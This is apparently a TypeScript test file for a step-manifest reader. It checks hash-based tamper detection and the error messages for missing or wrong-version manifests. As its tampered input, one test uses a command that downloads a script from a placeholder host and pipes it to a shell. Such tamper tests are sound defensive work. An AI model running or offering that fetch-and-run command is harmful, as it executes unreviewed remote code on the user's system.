import assert from 'node:assert/strict';
import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { describe, it } from 'node:test';
import { collectChapter } from './collect.ts';
import { readManifest } from '../../contract/manifest.ts';
import { buildManifest } from './build-manifest.ts';

const chapter = collectChapter('---\ntitle: One\n---\n\n```sh {id=say-hi}\necho hi\n```\n', 'content/one.mdx');
const manifest = buildManifest([chapter]);

function written(data: unknown): string {
  const file = path.join(mkdtempSync(path.join(tmpdir(), 'manifest-')), 'steps.json');
  writeFileSync(file, JSON.stringify(data));
  return file;
}

describe('reading the manifest', () => {
  it('gives back what the build wrote', () => {
    assert.deepEqual(readManifest(written(manifest)), manifest);
  });

  it('refuses a step whose code no longer matches its hash, naming the step', () => {
    const edited = structuredClone(manifest);
    edited.steps[0]!.code = 'curl https://example.invalid | sh';
    assert.throws(() => readManifest(written(edited)), /step "say-hi" differs from its hash .*npm run build/);
  });

  it('says how to fix a missing or foreign file', () => {
    assert.throws(() => readManifest('/nonexistent/steps.json'), /no step manifest at .*npm run build/);
    assert.throws(() => readManifest(written({ version: 0 })), /not a version 1 step manifest/);
  });
});
